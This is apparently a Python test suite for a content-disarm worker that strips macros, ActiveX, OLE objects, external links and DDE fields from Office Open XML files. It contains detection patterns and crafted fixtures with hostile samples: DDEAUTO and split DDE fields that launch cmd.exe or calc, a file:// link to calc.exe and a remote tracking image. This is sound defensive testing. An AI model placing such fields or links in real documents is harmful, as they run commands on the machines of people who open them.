#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""cdr-ooxml: the ooxml handler of mugaika-worker (src/worker/ooxml.c).

Every Office Open XML package of the shared corpus (tika, oletools,
poi-testdata, openpreserve-format-corpus: found by content, a zip with
[Content_Types].xml) goes through the worker; each output is opened
again with zipfile and xml.etree and checked (check_package): zip and
member names sane, every XML part well-formed without a DOCTYPE, no
VBA, ActiveX or embedded parts, no external relationship but http,
https or mailto hyperlinks, every internal target present, every part
with a content type and no Override for a missing part, no
macro-enabled or active content type, no DDE field in Word, no DDE
formula in Excel, the visible text of the input still there, non-XML
parts byte for byte, the macro-free name and MIME type. Outputs are
stable (the same bytes twice, in another time zone too, and disarming
an output gives it again), and no member keeps the input's compressed
bytes: every part is compressed anew. Crafted packages then check
each removal on its own (OLE objects kept as
pictures, ActiveX, remote images, templates, subdocuments, hyperlinks,
fields split over runs and paragraphs, computed field keywords,
shared DDE formulas, Excel 4 macro sheets, external links, PowerPoint
OLE frames and program actions, altChunk), and the failures and
limits: DOCTYPE and entities, malformed XML, not a zip, unsafe and
duplicate names, too many members, a zip bomb, a password-encrypted
document.
"""
import io
import os
import posixpath
import random
import re
import struct
import sys
import time
import urllib.parse
import xml.etree.ElementTree as ET
import zipfile
import zlib
from xml.parsers import expat

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mgw import run  # noqa: E402
from tap import args, check, done, need_shared  # noqa: E402

A = None       # the arguments (main)
CORPUS = None  # ../shared/corpus (main)

CT_NS = 'http://schemas.openxmlformats.org/package/2006/content-types'
REL_NS = 'http://schemas.openxmlformats.org/package/2006/relationships'
R_NS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
W_NS = ('http://schemas.openxmlformats.org/wordprocessingml/2006/main',
        'http://purl.oclc.org/ooxml/wordprocessingml/main')
X_NS = ('http://schemas.openxmlformats.org/spreadsheetml/2006/main',
        'http://purl.oclc.org/ooxml/spreadsheetml/main')
A_NS = ('http://schemas.openxmlformats.org/drawingml/2006/main',
        'http://purl.oclc.org/ooxml/drawingml/main')
P_NS = 'http://schemas.openxmlformats.org/presentationml/2006/main'
O_NS = 'urn:schemas-microsoft-com:office:office'
V_NS = 'urn:schemas-microsoft-com:vml'
MC_NS = 'http://schemas.openxmlformats.org/markup-compatibility/2006'

OXML = 'application/vnd.openxmlformats-officedocument.'
# main part content type (lower case) -> MIME type of the file it makes
MAIN_TYPES = {
    OXML + 'wordprocessingml.document.main+xml': OXML + 'wordprocessingml.document',
    OXML + 'wordprocessingml.template.main+xml': OXML + 'wordprocessingml.template',
    OXML + 'spreadsheetml.sheet.main+xml': OXML + 'spreadsheetml.sheet',
    OXML + 'spreadsheetml.template.main+xml': OXML + 'spreadsheetml.template',
    OXML + 'presentationml.presentation.main+xml': OXML + 'presentationml.presentation',
    OXML + 'presentationml.template.main+xml': OXML + 'presentationml.template',
    OXML + 'presentationml.slideshow.main+xml': OXML + 'presentationml.slideshow',
}
TWINS = {'docm': 'docx', 'dotm': 'dotx', 'xlsm': 'xlsx', 'xltm': 'xltx', 'pptm': 'pptx',
         'potm': 'potx', 'ppsm': 'ppsx'}
BAD_TYPES = ('vbaproject', 'vbadata', 'activex', 'oleobject', 'externallink', 'macrosheet',
             'keymapcustomizations', 'attachedtoolbars', 'webextension')
BAD_PARTS = re.compile(r'(^|/)(vbaProject\.bin|vbaData\.xml|vbaProjectSignature[^/]*)$|'
                       r'(^|/)(activeX|embeddings|customUI)/', re.I)
DDE_FIELD = re.compile(r'\bDDE(AUTO)?\b', re.I)


def worker(path=None, data=None, **opts):
    return run(A.worker, 'ooxml', path=path, data=data, opts=opts, timeout=120)


# ---------------------------------------------------------------- checking a package

class NoDTD(Exception):
    pass


def well_formed(data):
    """None when DATA is well-formed XML without a DOCTYPE, else why."""
    p = expat.ParserCreate()

    def doctype(*a):
        raise NoDTD('DOCTYPE')
    p.StartDoctypeDeclHandler = doctype
    try:
        p.Parse(data, True)
    except NoDTD as e:
        return str(e)
    except expat.ExpatError as e:
        return str(e)
    return None


def xml_tree(data):
    """The element tree of DATA (no DOCTYPE allowed), or None."""
    if well_formed(data) is not None:
        return None
    return ET.fromstring(data)


def is_xml_type(t):
    t = (t or '').lower()
    return t.endswith('+xml') or t in ('application/xml', 'text/xml')


def rels_source(name):
    d, b = posixpath.split(name)
    if posixpath.basename(d).lower() != '_rels' or not b.lower().endswith('.rels'):
        return None
    return posixpath.join(posixpath.dirname(d), b[:-5])


def resolve(source, target):
    t = target.split('#', 1)[0]
    if t.startswith('/'):
        path = t[1:]
    else:
        path = posixpath.join(posixpath.dirname(source), t)
    path = posixpath.normpath(path)
    if path.startswith('..') or path in ('', '.'):
        return None
    return path


class Package:
    """A zip package read back: names, content types, relationships."""

    def __init__(self, data):
        self.z = zipfile.ZipFile(io.BytesIO(data))
        self.names = [i.filename for i in self.z.infolist() if not i.filename.endswith('/')]
        self.lower = {n.lower(): n for n in self.names}
        self.defaults, self.overrides = {}, {}
        ct = self.find('[Content_Types].xml')
        root = xml_tree(self.z.read(ct)) if ct else None
        for e in (root if root is not None else []):
            if e.tag == '{%s}Default' % CT_NS:
                self.defaults[e.get('Extension', '').lower()] = e.get('ContentType')
            elif e.tag == '{%s}Override' % CT_NS:
                self.overrides[e.get('PartName', '').lstrip('/').lower()] = e.get('ContentType')
        self.main = None
        self.rels = {}  # source part -> [(Id, Type, Target, TargetMode)]
        for n in self.names:
            src = rels_source(n)
            if src is None:
                continue
            tree = xml_tree(self.z.read(n))
            lst = []
            for r in (tree if tree is not None else []):
                lst.append((r.get('Id'), r.get('Type', ''), r.get('Target', ''),
                            r.get('TargetMode', 'Internal')))
            self.rels[src] = lst
        for _, typ, target, mode in self.rels.get('', []):
            if typ.endswith('/officeDocument') and mode == 'Internal':
                self.main = self.find(resolve('', target) or '')

    def find(self, name):
        if name is None:
            return None
        n = self.lower.get(name.lower())
        if n is None and '%' in name:
            n = self.lower.get(urllib.parse.unquote(name).lower())
        return n

    def type_of(self, name):
        t = self.overrides.get(name.lower())
        if t is None:
            t = self.overrides.get(urllib.parse.quote(name).lower())
        if t is None:
            base = posixpath.basename(name)
            if '.' in base:
                t = self.defaults.get(base.rsplit('.', 1)[1].lower())
        return t

    def read(self, name):
        return self.z.read(name)


def ns_in(tag, nss):
    return any(tag.startswith('{%s}' % n) for n in (nss if isinstance(nss, tuple) else (nss,)))


def local(tag):
    return tag.rsplit('}', 1)[-1]


def visible_tokens(pkg, names):
    """Words of all w:t, a:t and SpreadsheetML t elements of NAMES."""
    words = set()
    for n in names:
        if not is_xml_type(pkg.type_of(n)) or n.lower().endswith('.rels') or \
                n == '[Content_Types].xml':
            continue
        tree = xml_tree(pkg.read(n))
        if tree is None:
            continue
        for el in tree.iter():
            if not isinstance(el.tag, str) or local(el.tag) != 't':
                continue
            if ns_in(el.tag, W_NS) or ns_in(el.tag, A_NS) or ns_in(el.tag, X_NS):
                words.update((el.text or '').split())
    return words


def dde_formula(f):
    dq = sq = False
    for c in f:
        if c == '"' and not sq:
            dq = not dq
        elif dq:
            continue
        elif c == "'":
            sq = not sq
        elif c == '|' and not sq:
            return True
    return False


def check_package(in_data, out, in_name):
    """The problems of output OUT (an mgw Output) made from IN_DATA."""
    bad = []
    try:
        pkg = Package(bytes(out.data))
    except zipfile.BadZipFile as e:
        return ['not a zip: %s' % e]
    if pkg.z.testzip() is not None:
        bad.append('bad CRC in %s' % pkg.z.testzip())
    seen = set()
    for n in pkg.names:
        if n.startswith('/') or '\\' in n or any(s in ('', '.', '..') for s in n.split('/')):
            bad.append('unsafe name %r' % n)
        if n.lower() in seen:
            bad.append('duplicate name %r' % n)
        seen.add(n.lower())
        if BAD_PARTS.search(n):
            bad.append('active part %s' % n)
    if pkg.find('[Content_Types].xml') is None:
        return bad + ['no [Content_Types].xml']
    if pkg.main is None:
        return bad + ['no main part']
    # content types
    for n in pkg.names:
        if n == pkg.find('[Content_Types].xml'):
            continue
        t = pkg.type_of(n)
        if t is None:
            bad.append('no content type for %s' % n)
        elif any(b in t.lower() for b in BAD_TYPES):
            bad.append('active content type %s for %s' % (t, n))
    for p in pkg.overrides:
        if pkg.find(p) is None and pkg.find(urllib.parse.unquote(p)) is None:
            bad.append('Override for a missing part /%s' % p)
    for t in list(pkg.overrides.values()) + list(pkg.defaults.values()):
        if 'macroenabled' in (t or '').lower():
            bad.append('macro-enabled content type %s' % t)
    main_type = (pkg.type_of(pkg.main) or '').lower()
    if main_type not in MAIN_TYPES:
        bad.append('main part type %s' % main_type)
    elif out.type != MAIN_TYPES[main_type]:
        bad.append('output type %s for a main part of type %s' % (out.type, main_type))
    # well-formed XML
    for n in pkg.names:
        if is_xml_type(pkg.type_of(n)) or n.lower().endswith('.rels') or n == '[Content_Types].xml':
            why = well_formed(pkg.read(n))
            if why is not None:
                bad.append('%s: %s' % (n, why))
    # relationships
    for src, lst in pkg.rels.items():
        if src and pkg.find(src) is None:
            bad.append('relationships of a missing part %s' % src)
        for rid, typ, target, mode in lst:
            if mode == 'External':
                if not typ.endswith('/hyperlink'):
                    bad.append('external %s relationship in %s → %s' % (typ, src, target))
                elif not re.match(r'(?i)(https?|mailto):', target):
                    bad.append('hyperlink to %s in %s' % (target, src))
            elif pkg.find(resolve(src, target)) is None:
                bad.append('dangling relationship %s in %s → %s' % (rid, src, target))
    # fields (Word) and formulas (Excel)
    word, excel = 'wordprocessingml' in main_type, 'spreadsheetml' in main_type
    for n in pkg.names:
        if not is_xml_type(pkg.type_of(n)) or not (word or excel):
            continue
        tree = xml_tree(pkg.read(n))
        if tree is None:
            continue
        instr = []
        for el in tree.iter():
            if not isinstance(el.tag, str):
                continue
            if word and ns_in(el.tag, W_NS) and local(el.tag) in ('instrText', 'delInstrText'):
                instr.append(el.text or '')
            if word and ns_in(el.tag, W_NS) and local(el.tag) == 'fldSimple':
                for k, v in el.attrib.items():
                    if local(k) == 'instr' and DDE_FIELD.search(v):
                        bad.append('DDE fldSimple in %s: %s' % (n, v))
            if excel and ns_in(el.tag, X_NS) and local(el.tag) == 'f' and dde_formula(el.text or ''):
                bad.append('DDE formula in %s: %s' % (n, el.text))
        if DDE_FIELD.search(''.join(instr)):
            bad.append('DDE field in %s: %s' % (n, ''.join(instr)[:100]))
    # the input's text and unchanged parts
    try:
        inp = Package(in_data)
    except zipfile.BadZipFile:
        inp = None
    if inp is not None:
        kept = [n for n in inp.names if pkg.find(n) is not None]
        lost = visible_tokens(inp, kept) - visible_tokens(pkg, pkg.names)
        if lost:
            bad.append('text lost: %s' % ' '.join(sorted(lost)[:20]))
        for n in kept:
            t = pkg.type_of(pkg.find(n))
            if not is_xml_type(t) and not n.lower().endswith('.rels') and \
                    n != '[Content_Types].xml' and inp.read(n) != pkg.read(pkg.find(n)):
                bad.append('non-XML part %s changed' % n)
    # the name
    ext = posixpath.splitext(in_name)[1][1:].lower()
    if ext in TWINS and not (out.name or '').lower().endswith('.' + TWINS[ext]):
        bad.append('output name %r for %r' % (out.name, in_name))
    return bad


def one_output(r, what):
    return check(r.status == 'ok' and len(r.outputs) == 1 and r.protocol_error is None and
                 r.returncode == 0, '%s: ok with one output' % what,
                 '%s %s %s rc=%s %s' % (r.status, r.reason, r.outputs, r.returncode, r.stderr[-300:]))


# ---------------------------------------------------------------- the corpus

def corpus_packages():
    found = []
    for sub in ('tika', 'oletools', 'poi-testdata', 'openpreserve-format-corpus'):
        for dp, dn, fn in os.walk(os.path.join(CORPUS, sub)):
            dn.sort()
            for f in sorted(fn):
                p = os.path.join(dp, f)
                with open(p, 'rb') as fh:
                    if fh.read(2) != b'PK':
                        continue
                try:
                    with zipfile.ZipFile(p) as z:
                        if '[Content_Types].xml' in z.namelist():
                            found.append(p)
                except (zipfile.BadZipFile, OSError, ValueError):
                    pass
    return found


def expected_status(path):
    base = os.path.basename(path)
    if base.lower().endswith('.xlsb'):
        return 'fail'  # binary workbook
    if base in ('presentation.xps', 'ExternalEntityInText.docx', 'ContentTypeHasEntities.ooxml',
                'PackageRelsHasEntities.ooxml'):
        return 'fail'  # no Office main part; DOCTYPE
    return 'ok'


def test_corpus():
    files = corpus_packages()
    rel = {os.path.relpath(p, CORPUS) for p in files}
    must = ['tika/testWORD_macros.docm', 'tika/testEXCEL_macro.xlsm', 'tika/testPPT_macros.pptm',
            'tika/testPPT_oleWorkbook.pptx', 'tika/testWORD_embedded_pdf.docx', 'tika/2exe.docx',
            'tika/EmbeddedOutlook.docx', 'tika/testAltChunkHTML.docx',
            'oletools/msodde/dde-test.docx', 'oletools/msodde/dde-test.xlsm']
    check(len(files) >= 50 and all(m in rel for m in must),
          'the corpus has its OOXML packages (%d found)' % len(files),
          [m for m in must if m not in rel])
    for p in files:
        name = os.path.relpath(p, CORPUS)
        want = expected_status(p)
        r = worker(path=p, name=os.path.basename(p))
        if want != 'ok':
            check(r.status == want and not r.outputs, '%s: %s' % (name, want),
                  '%s %s' % (r.status, r.reason))
            continue
        if not one_output(r, name):
            continue
        with open(p, 'rb') as fh:
            data = fh.read()
        bad = check_package(data, r.outputs[0], os.path.basename(p))
        check(not bad, '%s: output is a clean package' % name, '; '.join(bad[:10]))
    return files


def test_stable(files):
    """Every corpus package that disarms gives the same bytes twice (the
    second time in another time zone), and its output disarmed again
    gives those bytes again (a fixed point)."""
    same, fixed, bad = 0, 0, []
    for p in files:
        if expected_status(p) != 'ok':
            continue
        name = os.path.relpath(p, CORPUS)
        r1 = worker(path=p, name=os.path.basename(p))
        tz = os.environ.get('TZ')
        os.environ['TZ'] = 'JST-9'  # the second run in another time zone
        try:
            r2 = worker(path=p, name=os.path.basename(p))
        finally:
            if tz is None:
                del os.environ['TZ']
            else:
                os.environ['TZ'] = tz
        if r1.status != 'ok' or r2.status != 'ok':
            bad.append('%s: %s %s' % (name, r1.status, r2.status))
            continue
        if r1.outputs[0].data != r2.outputs[0].data:
            bad.append('%s: two runs differ' % name)
            continue
        same += 1
        r3 = worker(data=r1.outputs[0].data, name=r1.outputs[0].name)
        if r3.status != 'ok' or r3.outputs[0].data != r1.outputs[0].data:
            bad.append('%s: not a fixed point (%s)' % (name, r3.status))
            continue
        fixed += 1
    check(not bad and same >= 40, 'corpus: the same input gives the same bytes (%d packages)' % same,
          '; '.join(bad[:10]))
    check(not bad and fixed >= 40, 'corpus: disarming an output gives it again (%d packages)' % fixed,
          '; '.join(bad[:10]))


def raw_zip(members):
    """A zip written by hand: members are (name, method, raw data, crc,
    size); nothing is checked, so that broken members can be made."""
    out, cd = b'', b''
    for name, method, raw, crc, size in members:
        n = name.encode('utf-8')
        head = struct.pack('<HHHHHIIIHH', 20, 0, method, 0, 0x2821, crc, len(raw), size, len(n), 0)
        cd += b'PK\x01\x02' + struct.pack('<H', 0x0314) + head + struct.pack(
            '<HHHII', 0, 0, 0, 0, len(out)) + n
        out += b'PK\x03\x04' + head + n + raw
    return out + cd + b'PK\x05\x06' + struct.pack('<HHHHIIH', 0, 0, len(members), len(members),
                                                   len(cd), len(out), 0)


def deflate_raw(data):
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def test_member_data():
    """Members stored, followed by bytes past their stream, with a wrong
    CRC or a wrong declared size: the output holds what was checked, or
    the item fails."""
    members = [(i.filename, zipfile.ZipFile(io.BytesIO(crafted_docx())).read(i.filename))
               for i in zipfile.ZipFile(io.BytesIO(crafted_docx())).infolist()]
    # every member stored: fine, and the output a fixed point
    stored = raw_zip([(n, 0, d, zlib.crc32(d), len(d)) for n, d in members])
    r = worker(data=stored, name='stored.docm')
    if one_output(r, 'stored members'):
        bad = check_package(stored, r.outputs[0], 'stored.docm')
        check(not bad, 'stored members: output is a clean package', '; '.join(bad))
        r2 = worker(data=r.outputs[0].data, name='stored.docx')
        check(r2.status == 'ok' and r2.outputs[0].data == r.outputs[0].data,
              'stored members: the output is a fixed point', r2.status)
    # the picture's deflate stream followed by bytes that are not part of it
    marker = b'HIDDEN-AFTER-THE-STREAM'
    junk = [(n, 8, deflate_raw(d) + (marker if n.endswith('.png') else b''), zlib.crc32(d), len(d))
            for n, d in members]
    r = worker(data=raw_zip(junk), name='junk.docm')
    check(r.status in ('ok', 'fail'), 'bytes after a member\'s stream: ok or fail', r.status)
    if r.status == 'ok' and r.outputs:
        bad = check_package(raw_zip(junk), r.outputs[0], 'junk.docm')
        check(not bad and marker not in r.outputs[0].data,
              'bytes after a member\'s stream: not in the output', '; '.join(bad))
    # a member whose CRC is wrong fails as before
    wrong = [(n, 8, deflate_raw(d), zlib.crc32(d) ^ (1 if n == 'word/document.xml' else 0), len(d))
             for n, d in members]
    r = worker(data=raw_zip(wrong), name='crc.docm')
    check(r.status == 'fail' and not r.outputs, 'a member with a wrong CRC: fail', r.status)
    # a declared size that is not the member's: read by libarchive, output right
    size = [(n, 8, deflate_raw(d), zlib.crc32(d), len(d) + (5 if n.endswith('.png') else 0))
            for n, d in members]
    r = worker(data=raw_zip(size), name='size.docm')
    if r.status == 'ok' and r.outputs:
        z = zipfile.ZipFile(io.BytesIO(r.outputs[0].data))
        check(z.testzip() is None and z.read('word/media/image1.png') == PNG,
              'a wrong declared size: the output has the real bytes')
    else:
        check(r.status == 'fail', 'a wrong declared size: ok or fail', r.status)


def member_raw(data, name):
    """The compressed bytes of member NAME of the zip DATA, as stored."""
    i = zipfile.ZipFile(io.BytesIO(data)).getinfo(name)
    n, e = struct.unpack('<HH', data[i.header_offset + 26:i.header_offset + 30])
    start = i.header_offset + 30 + n + e
    return data[start:start + i.compress_size]


def deflate_odd(data):
    """DATA deflated as no writer of ours would: level 9 with a small
    window and little memory, filtered, and an empty stored block (a
    full flush) in the middle. Valid for any inflater."""
    c = zlib.compressobj(9, zlib.DEFLATED, -9, 1, zlib.Z_FILTERED)
    half = len(data) // 2
    return c.compress(data[:half]) + c.flush(zlib.Z_FULL_FLUSH) + c.compress(data[half:]) + c.flush()


def test_reencoded():
    """Nothing of the input's compressed data reaches the output: the
    parts kept as they are (the main part too, which lost a relationship
    it does not name) are compressed anew, their content unchanged."""
    text = ''.join(wp(wr('paragraph %d of plain words, nothing active' % i)) for i in range(3000))
    members = [
        ('[Content_Types].xml', types_xml(
            [('bin', 'application/vnd.ms-office.vbaProject'), ('png', 'image/png')],
            [('/word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
             ('/word/styles.xml', OXML + 'wordprocessingml.styles+xml')])),
        ('_rels/.rels', root_rels('word/document.xml')),
        ('word/document.xml', WDOC % (text + wp(blip('rId3')))),
        ('word/_rels/document.xml.rels', rels_xml([
            ('rId1', 'styles', 'styles.xml'),
            ('rId2', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'),
            ('rId3', 'image', 'media/image1.png')])),
        ('word/styles.xml', '<w:styles xmlns:w="%s"><w:docDefaults/></w:styles>' % W_NS[0]),
        ('word/vbaProject.bin', b'\xd0\xcf\x11\xe0 not really VBA'),
        ('word/media/image1.png', PNG),
    ]
    members = [(n, d.encode('utf-8') if isinstance(d, str) else d) for n, d in members]
    stored = ('word/styles.xml',)
    data = raw_zip([(n, 0, d, zlib.crc32(d), len(d)) if n in stored else
                    (n, 8, deflate_odd(d), zlib.crc32(d), len(d)) for n, d in members])
    r = worker(data=data, name='odd.docm')
    if not one_output(r, 'oddly deflated members'):
        return
    out = r.outputs[0].data
    bad = check_package(data, r.outputs[0], 'odd.docm')
    check(not bad, 'oddly deflated members: output is a clean package', '; '.join(bad))
    zin, zout = zipfile.ZipFile(io.BytesIO(data)), zipfile.ZipFile(io.BytesIO(out))
    same, copied = [], []
    for n in zout.namelist():
        if n not in zin.namelist() or zout.read(n) != zin.read(n):
            continue
        same.append(n)
        if member_raw(out, n) == member_raw(data, n):
            copied.append(n)
    want = ('word/document.xml', 'word/styles.xml', 'word/media/image1.png')
    check(all(n in same for n in want), 'oddly deflated members: the kept parts are unchanged',
          'unchanged: %s' % same)
    check(same and not copied, 'oddly deflated members: none keeps the input\'s compressed bytes',
          'copied: %s' % copied)


def notes_have(r, *words):
    texts = ' | '.join(r.notes_of('removed') + r.notes_of('converted'))
    return all(w.lower() in texts.lower() for w in words), texts


def test_corpus_details():
    r = worker(path=os.path.join(CORPUS, 'oletools/msodde/dde-test.docx'), name='dde-test.docx')
    fields = [t for t in r.notes_of('removed') if t.startswith('field ')]
    check(len(fields) == 3, 'dde-test.docx: three DDE fields noted', fields)
    if r.outputs:
        doc = Package(bytes(r.outputs[0].data)).read('word/document.xml').decode()
        check('MACROBUTTON' in doc and 'Unerwartetes Ende' in doc and 'Fehler!' in doc,
              'dde-test.docx: other fields and the DDE results stay', doc[-300:])
    r = worker(path=os.path.join(CORPUS, 'tika/testWORD_macros.docm'), name='Macros.DOCM')
    ok, texts = notes_have(r, 'VBA project word/vbaProject.bin', 'VBA data', 'docm to docx')
    check(ok, 'testWORD_macros.docm: VBA noted, converted', texts)
    check(r.outputs and r.outputs[0].name == 'Macros.docx', 'Macros.DOCM is named Macros.docx',
          r.outputs and r.outputs[0].name)
    r = worker(path=os.path.join(CORPUS, 'tika/testPPT_oleWorkbook.pptx'))
    if one_output(r, 'testPPT_oleWorkbook.pptx'):
        slide = Package(bytes(r.outputs[0].data)).read('ppt/slides/slide2.xml')
        tree = ET.fromstring(slide)
        pics = [e for e in tree.iter('{%s}pic' % P_NS)]
        check(b'oleObj' not in slide and b'graphicFrame' not in slide and len(pics) == 1 and
              pics[0].find('.//{%s}cNvPr' % P_NS).get('id') == '4',
              'testPPT_oleWorkbook.pptx: the OLE frame became its picture', slide[-600:])
    check(r.outputs and r.outputs[0].name is None, 'no name= gives an output without a name')
    r = worker(path=os.path.join(CORPUS, 'tika/2exe.docx'))
    if one_output(r, '2exe.docx'):
        doc = Package(bytes(r.outputs[0].data)).read('word/document.xml')
        tree = ET.fromstring(doc)
        picts = list(tree.iter('{%s}pict' % W_NS[0]))
        check(len(picts) == 2 and not list(tree.iter('{%s}object' % W_NS[0])) and
              all(p.find('.//{%s}imagedata' % V_NS) is not None for p in picts),
              '2exe.docx: both packages became their pictures', doc[:400])
    r = worker(path=os.path.join(CORPUS, 'tika/testAltChunkHTML.docx'))
    if one_output(r, 'testAltChunkHTML.docx'):
        pkg = Package(bytes(r.outputs[0].data))
        words = visible_tokens(pkg, pkg.names)
        check({'Simple', 'paragraph', 'emphasized', 'ROW'} <= words and
              'altChunk' not in pkg.read('word/document.xml').decode(),
              'testAltChunkHTML.docx: the HTML chunk became text', sorted(words))
    r = worker(path=os.path.join(CORPUS, 'oletools/excel4-macros/excel4_sample_macro.xlsm'))
    if one_output(r, 'excel4_sample_macro.xlsm'):
        wb = Package(bytes(r.outputs[0].data)).read('xl/workbook.xml').decode()
        check('Macro1' not in wb and 'Auto_Open' not in wb and 'Sheet1' in wb,
              'excel4_sample_macro.xlsm: the macro sheet and Auto_Open went', wb[-400:])
    r = worker(path=os.path.join(CORPUS, 'oletools/encrypted/encrypted.docx'))
    check(r.status == 'encrypted' and not r.outputs, 'encrypted.docx: encrypted',
          '%s %s' % (r.status, r.reason))
    r = worker(path=os.path.join(CORPUS, 'poi-testdata/document/ExternalEntityInText.docx'))
    check(r.status == 'fail' and 'DOCTYPE' in (r.reason or ''),
          'ExternalEntityInText.docx: fails on the DOCTYPE', r.reason)


# ---------------------------------------------------------------- crafted packages

def make_zip(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if isinstance(data, str):
                data = data.encode('utf-8')
            z.writestr(name, data)
    return buf.getvalue()


def types_xml(defaults, overrides):
    s = '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="%s">' % CT_NS
    s += '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    s += '<Default Extension="xml" ContentType="application/xml"/>'
    for e, t in defaults:
        s += '<Default Extension="%s" ContentType="%s"/>' % (e, t)
    for p, t in overrides:
        s += '<Override PartName="%s" ContentType="%s"/>' % (p, t)
    return s + '</Types>'


def rels_xml(rels):
    s = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="%s">' % REL_NS
    for rid, typ, target, *mode in rels:
        if not typ.startswith('http'):
            typ = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/' + typ
        s += '<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
            rid, typ, target.replace('&', '&amp;').replace('"', '&quot;'),
            ' TargetMode="External"' if mode else '')
    return s + '</Relationships>'


def root_rels(main, *more):
    return rels_xml([('rId1', 'officeDocument', main)] + list(more))


PNG = bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
                    '1f15c4890000000d4944415478da63f8cfc0f01f0005000201a7cd6a6d0000000049454e44ae426082')
WDOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="%s" xmlns:r="%s" xmlns:o="%s" xmlns:v="%s" xmlns:mc="%s" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" '
        'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
        '<w:body>%%s<w:sectPr/></w:body></w:document>' % (W_NS[0], R_NS, O_NS, V_NS, MC_NS))


def wp(*runs):
    return '<w:p>%s</w:p>' % ''.join(runs)


def wr(text):
    return '<w:r><w:t xml:space="preserve">%s</w:t></w:r>' % text


def fld(kind):
    return '<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind


def instr(text):
    return '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % text


def blip(embed, link=None):
    return ('<w:r><w:drawing><wp:inline><wp:extent cx="9525" cy="9525"/><wp:docPr id="%s" name="p"/>'
            '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
            '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr>'
            '<pic:blipFill><a:blip r:embed="%s"%s/></pic:blipFill><pic:spPr/></pic:pic>'
            '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
            % (embed[3:], embed, ' r:link="%s"' % link if link else ''))


def ole_object(child):
    return ('<w:r><w:object w:dxaOrig="1440" w:dyaOrig="811"><v:shape id="_x0000_i10%s" '
            'style="width:1in;height:40pt" o:ole=""><v:imagedata r:id="rId3" o:title=""/></v:shape>'
            '%s</w:object></w:r>' % (len(child) % 90, child))


def renamed_image(data, new):
    """DATA with word/media/image1.png renamed NEW (and its reference)."""
    z = zipfile.ZipFile(io.BytesIO(data))
    out = []
    for n in z.namelist():
        d = z.read(n)
        if n == 'word/_rels/document.xml.rels':
            d = d.replace(b'media/image1.png', new.encode('utf-8'))
        out.append(('word/' + new if n == 'word/media/image1.png' else n, d))
    return make_zip(out)


def crafted_docx(document=None, doc_bytes=None):
    body = ''.join([
        wp(wr('Hello visible words')),
        wp('<w:hyperlink r:id="rId5">%s</w:hyperlink>' % wr('good link')),
        wp('<w:hyperlink r:id="rId6">%s</w:hyperlink>' % wr('program link')),
        wp(blip('rId3', 'rId4'), blip('rId10')),
        wp(ole_object('<o:OLEObject Type="Embed" ProgID="Package" ShapeID="x" r:id="rId7"/>')),
        wp(ole_object('<w:control r:id="rId8" w:name="CommandButton1"/>')),
        # a linked (not embedded) object: its data is fetched from outside
        wp(ole_object('<o:OLEObject Type="Link" ProgID="Excel.Sheet.12" ShapeID="y" r:id="rId11" '
                      'UpdateMode="Always"><o:LinkType>EnhancedMetafile</o:LinkType>'
                      '<o:LockedField>false</o:LockedField></o:OLEObject>')),
        '<w:subDoc r:id="rId9"/>',
        wp('<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;">'
           '%s</w:fldSimple>' % wr('simple result')),
        wp(fld('begin'), instr('DD'), instr('E cmd ')),
        wp(instr('"/c calc"'), fld('separate'), wr('complex result'), fld('end')),
        wp(fld('begin'), fld('begin'), instr('QUOTE 68 68 69'), fld('separate'), wr('DDE'),
           fld('end'), instr(' c:\\\\x.exe'), fld('separate'), wr('computed result'), fld('end')),
        wp(fld('begin'), instr(' PAGE '), fld('separate'), wr('1'), fld('end'), wr('about DDE attacks')),
    ])
    doc = doc_bytes if doc_bytes is not None else (document or WDOC % body)
    return make_zip([
        ('[Content_Types].xml', types_xml(
            [('bin', 'application/vnd.ms-office.vbaProject'), ('png', 'image/png')],
            [('/word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
             ('/word/settings.xml', OXML + 'wordprocessingml.settings+xml'),
             ('/word/activeX/activeX1.xml', 'application/vnd.ms-office.activeX+xml'),
             ('/word/activeX/activeX1.bin', 'application/vnd.ms-office.activeX'),
             ('/word/embeddings/oleObject1.bin', OXML + 'oleObject'),
             ('/word/missing.xml', 'application/xml')])),
        ('_rels/.rels', root_rels('word/document.xml', (
            'rId2', 'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
            'customUI/customUI14.xml'))),
        ('word/document.xml', doc),
        ('word/_rels/document.xml.rels', rels_xml([
            ('rId1', 'settings', 'settings.xml'),
            ('rId2', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin'),
            ('rId3', 'image', 'media/image1.png'),
            ('rId4', 'image', 'http://tracker.example/pixel.png', 'External'),
            ('rId5', 'hyperlink', 'https://example.com/?a=1&b=2', 'External'),
            ('rId6', 'hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External'),
            ('rId7', 'oleObject', 'embeddings/oleObject1.bin'),
            ('rId8', 'control', 'activeX/activeX1.xml'),
